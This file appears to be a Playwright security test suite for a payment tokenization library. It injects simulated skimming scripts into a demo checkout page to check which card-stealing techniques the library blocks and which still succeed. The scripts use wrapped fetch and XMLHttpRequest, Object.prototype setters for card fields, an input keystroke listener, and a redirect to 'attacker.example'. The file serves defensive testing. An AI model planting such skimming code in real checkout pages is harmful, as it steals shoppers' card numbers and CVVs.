import type { Page } from '@playwright/test';
import { test, expect, fillCard, CREDENTIALS, FUTURE_YY } from './fixtures';

/**
 * Other scripts on the demo checkout page (script tag + form layer), in Chromium (docs/security.md).
 *
 * 1. A script that runs AFTER the library (appended to the page's own checkout.js, as a compromised script
 *    of the page would be) wraps `fetch`, `JSON.stringify`, and `XMLHttpRequest` (the global and its prototype's
 *    `open`, `setRequestHeader`, `send` and `responseText`), puts setters
 *    (`card_number`, `cvv2`, `holder_name`) and getters (`toJSON`, fetch settings) on `Object.prototype`, tries
 *    to replace `window.PayToken` and its `setBaseUrl`, and, once a card was sent, calls
 *    `PayToken.setBaseUrl('https://attacker.example')`. None of it yields a digit of the PAN or CVV2, every card
 *    goes to the sandbox, and the payment completes.
 * 2. What the on-page mode cannot stop, so the README's claims are exact: a script that runs BEFORE the library
 *    (its `XMLHttpRequest.prototype.send` wrapper is what the library keeps), an `input` listener, and a built-in method
 *    (`String.prototype.replace`) wrapped even after load all read the PAN. Hosted fields are the answer.
 *
 * What each script captures is kept in sessionStorage, which outlives the form's post to the result page.
 */

const PAN = '5555555555554444';
const CVV2 = '987';

/**
 * Adds `early` code to run before the library (prepended to /paytoken-checkout.iife.js, the `/direct` page's) and `late` code to run after it and
 * after the page's own checkout.js (appended to /checkout.js, the last deferred script). Sub-resources are
 * rewritten, not the page itself: a page answered by Playwright would lose its loopback address space and
 * Chromium would block its requests to the loopback sandbox.
 */
async function inject(page: Page, scripts: { early?: string; late?: string }) {
  const rewrite = (path: string, edit: (code: string) => string) =>
    page.route(`**${path}`, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: edit(await response.text()) });
    });
  if (scripts.early) await rewrite('/paytoken-checkout.iife.js', (code) => `${scripts.early}\n${code}`);
  if (scripts.late) await rewrite('/checkout.js', (code) => `${code}\n${scripts.late}`);
}

/** Shared by the attack scripts: `log(route, value)` appends to sessionStorage 'captured', with the built-ins of its own start. */
const LOGGER = `
  var stringify = JSON.stringify, busy = false;
  var log = function (route, v) {
    if (busy) return;
    busy = true;
    try {
      var text;
      try { text = typeof v == 'string' ? v : stringify(v); } catch (e) { text = String(v); }
      var all = JSON.parse(sessionStorage.getItem('captured') || '[]');
      all.push(route + ' ' + text);
      sessionStorage.setItem('captured', stringify(all));
    } finally { busy = false; }
  };`;

/** Runs after the library and checkout.js. */
const AFTER_LOAD = `(function () {
  ${LOGGER}
  var realFetch = window.fetch;
  window.fetch = function (url, init) { log('fetch', String(url) + ' ' + String(init && init.body)); return realFetch.apply(this, arguments); };
  JSON.stringify = function (v) { log('JSON.stringify', v); return stringify.apply(JSON, arguments); };
  var xhr = XMLHttpRequest.prototype, RealXHR = XMLHttpRequest;
  ['open', 'setRequestHeader', 'send'].forEach(function (m) {
    var real = xhr[m];
    xhr[m] = function () { log('xhr.' + m, [].slice.call(arguments).map(String).join(' ')); return real.apply(this, arguments); };
  });
  var responseText = Object.getOwnPropertyDescriptor(xhr, 'responseText');
  Object.defineProperty(xhr, 'responseText', { configurable: true, get: function () { var t = responseText.get.call(this); log('xhr.responseText', t); return t; } });
  window.XMLHttpRequest = function () { log('new XMLHttpRequest', ''); return new RealXHR(); };
  ['card_number', 'cvv2', 'holder_name'].forEach(function (k) {
    Object.defineProperty(Object.prototype, k, { configurable: true, set: function (v) {
      log('set ' + k, v);
      Object.defineProperty(this, k, { value: v, writable: true, enumerable: true, configurable: true });
    } });
  });
  ['toJSON', 'integrity', 'duplex', 'priority', 'mode', 'redirect'].forEach(function (k) {
    Object.defineProperty(Object.prototype, k, { configurable: true, get: function () { log('get ' + k, this); return undefined; } });
  });
  var original = window.PayToken, originalSetBaseUrl = original.setBaseUrl;
  try { PayToken = { evil: true }; } catch (e) {}
  try { PayToken.setBaseUrl = function () {}; } catch (e) {}
  try { delete window.PayToken; } catch (e) {}
  window.evil = {
    replaced: window.PayToken !== original || window.PayToken.setBaseUrl !== originalSetBaseUrl,
    redirect: function () {
      try { PayToken.setBaseUrl('https://attacker.example'); return 'redirected'; } catch (e) { return e.name + ': ' + e.message; }
    },
  };
})();`;

/** Runs before the library: wraps fetch and XMLHttpRequest's send. */
const BEFORE_LOAD = `(function () {
  ${LOGGER}
  var realFetch = window.fetch;
  window.fetch = function (url, init) { log('fetch (before load)', String(url) + ' ' + String(init && init.body)); return realFetch.apply(this, arguments); };
  var realSend = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) { log('xhr.send (before load)', String(body)); return realSend.apply(this, arguments); };
})();`;

/** Runs after the library: reads the inputs and wraps a String method. */
const READS_INPUTS = `(function () {
  ${LOGGER}
  document.addEventListener('input', function (e) { log('input listener', e.target.value); }, true);
  var replace = String.prototype.replace;
  String.prototype.replace = function () { log('String.prototype.replace', String(this)); return replace.apply(this, arguments); };
})();`;

const captured = async (page: Page): Promise<string[]> => page.evaluate(() => JSON.parse(sessionStorage.getItem('captured') ?? '[]'));
/** The captured lines holding the PAN (any grouping) or the CVV2. */
const withCard = (lines: string[]) => lines.filter((l) => l.replace(/\D/g, '').includes(PAN) || l.includes(CVV2));

test.describe('other scripts on the checkout page', () => {
  test('a script injected after the library sees no digit of the PAN or CVV2 and cannot redirect cards; the payment completes', async ({
    page,
    servers,
    recorder,
  }) => {
    await inject(page, { late: AFTER_LOAD });
    await page.goto(`${servers.merchant.url}/direct?lang=en`);
    await page.waitForFunction(() => 'evil' in window);
    expect(await page.evaluate(() => (window as unknown as { evil: { replaced: boolean } }).evil.replaced)).toBe(false);

    // the merchant's own code tokenizes a card: from now on the settings are pinned
    const first = await page.evaluate(
      ([number, cvv2, yy]) =>
        new Promise<string>((resolve) =>
          (
            window as unknown as {
              PayToken: {
                token: { create(d: object, ok: (r: { data: { id: string } }) => void, fail: (r: { message: string }) => void): void };
              };
            }
          ).PayToken.token.create(
            { card_number: number, holder_name: 'Ana Pérez', expiration_month: '12', expiration_year: yy, cvv2 },
            (r) => resolve(r.data.id),
            (r) => resolve(`failed: ${r.message}`),
          ),
        ),
      [PAN, CVV2, FUTURE_YY],
    );
    expect(first).toMatch(/^[a-z0-9]{20}$/);
    const redirect = await page.evaluate(() => (window as unknown as { evil: { redirect(): string } }).evil.redirect());
    expect(redirect).toBe('ConfigurationError: baseUrl: fixed once a card has been sent from this page');
    // the XMLHttpRequest patches are live: an XHR of the page's own goes through them
    await page.evaluate(
      () =>
        new Promise((done) => {
          const x = new XMLHttpRequest();
          x.open('GET', '/direct?lang=en');
          x.onloadend = () => done(x.responseText.length);
          x.send();
        }),
    );

    // the shopper pays with the form
    await fillCard(page, { number: PAN, cvv2: CVV2 });
    await page.getByRole('button', { name: /^Pay / }).click();
    await expect(page.getByRole('heading', { name: 'Payment complete' })).toBeVisible();

    const lines = await captured(page);
    expect(lines.length).toBeGreaterThan(0); // the hooks did run (device data, the page's own objects)
    expect(lines.filter((l) => /^(new XMLHttpRequest|xhr\.(open|send|responseText)) /.test(l)).length).toBeGreaterThanOrEqual(4); // the page's own XHR
    expect(withCard(lines)).toEqual([]);
    expect(lines.filter((l) => /^set (card_number|cvv2)/.test(l))).toEqual([]);
    const tokenPosts = recorder.requests.filter((r) => r.method === 'POST' && r.url.endsWith('/tokens'));
    expect(tokenPosts.map((r) => r.url)).toEqual([
      `${servers.apiUrl}/v1/${CREDENTIALS.merchantId}/tokens`,
      `${servers.apiUrl}/v1/${CREDENTIALS.merchantId}/tokens`,
    ]);
    expect(recorder.requests.filter((r) => r.url.includes('attacker'))).toEqual([]);
  });

  test('what the on-page mode cannot stop: a script before the library, an input listener, a wrapped String method read the PAN', async ({
    page,
    servers,
  }) => {
    await inject(page, { early: BEFORE_LOAD, late: READS_INPUTS });
    await page.goto(`${servers.merchant.url}/direct?lang=en`);
    await fillCard(page, { number: PAN, cvv2: CVV2 });
    await page.getByRole('button', { name: /^Pay / }).click();
    await expect(page.getByRole('heading', { name: 'Payment complete' })).toBeVisible();

    const lines = withCard(await captured(page));
    const byRoute = (route: string) => lines.filter((l) => l.startsWith(route));
    // the body of the token request, PAN and CVV2 in it
    expect(byRoute('xhr.send (before load)').some((l) => l.includes(`"card_number":"${PAN}"`) && l.includes(`"cvv2":"${CVV2}"`))).toBe(
      true,
    );
    // each keystroke, the whole number at the end
    expect(byRoute('input listener').some((l) => l.replace(/\D/g, '') === PAN)).toBe(true);
    // the card rules normalise the PAN with String.prototype.replace
    expect(byRoute('String.prototype.replace').length).toBeGreaterThan(0);
  });
});
